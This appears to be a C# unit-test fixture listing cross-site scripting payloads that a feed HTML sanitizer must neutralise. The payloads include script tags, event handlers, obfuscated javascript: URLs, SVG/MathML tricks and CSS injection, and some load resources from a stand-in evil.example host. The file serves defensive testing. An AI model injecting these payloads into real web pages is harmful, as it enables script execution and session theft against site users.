namespace Flusio.Feeds.Tests.Cleaning;

/// <summary>Hostile markup the cleaner must defuse, one family per block.</summary>
public static class XssVectors
{
    public static TheoryData<string> All { get; } = new(
    [
        // Script elements, plain, sourced, nested and broken.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",

        // Event handler attributes, every quoting and case.
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" OnError=\"alert(1)\">",
        "<img src=x onerror='alert(1)'//>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<p onmouseover=\"alert(1)\">x</p>",
        "<div id=\"x\" onpointerenter=alert(1)>x</div>",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus>",
        "<keygen autofocus onfocus=alert(1)>",
        "<frameset onload=alert(1)>",

        // javascript: URLs with case, whitespace, control characters and character references.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"&#14;javascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<video poster=\"javascript:alert(1)\"></video>",

        // vbscript: and data: URLs.
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"VBScript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"data:image/png;base64,iVBORw0KGgo=\">x</a>",

        // srcset.
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<img srcset=\"https://ok.example/a.png 1x, javascript:alert(1) 2x\">",
        "<picture><source srcset=\"javascript:alert(1)\"></picture>",

        // SVG and MathML.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
        "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",

        // base, meta refresh, stylesheets and CSS.
        "<base href=\"javascript:alert(1)//\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<p style=\"behavior: url(x.htc)\">x</p>",
        "<img src=\"https://ok.example/a.png\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",

        // Forms.
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex action=\"javascript:alert(1)\" type=image>",

        // Frames and plugins.
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe src=\"https://evil.example/videos/embed/x\"></iframe>",
        "<iframe src=\"https://www.youtube.com:8443/embed/x\"></iframe>",
        "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
        "<iframe src=\"http://www.youtube.com/embed/x\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://www.youtube.com/embed/x\" onload=\"alert(1)\" sandbox=\"allow-top-navigation allow-forms\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object data=\"https://evil.example/x.swf\"><param name=x value=y></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=\"x\"></applet>",

        // Comments and CDATA.
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!-- --!><script>alert(1)</script> -->",
        "<p><!--[if IE]><script>alert(1)</script><![endif]--></p>",
        "<p>fine</p><!--> <script>alert(1)</script> -->",
    ]);

    /// <summary>
    /// Vectors an HTML5 parser already reads as text or comments; they stay in the list for older
    /// parsers' sake. Every other vector is caught by the harmlessness check when left uncleaned,
    /// which shows that the check has teeth.
    /// </summary>
    public static IReadOnlySet<string> InertForHtml5Parsers { get; } = new HashSet<string>
    {
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<frameset onload=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p><!--[if IE]><script>alert(1)</script><![endif]--></p>",
    };
}
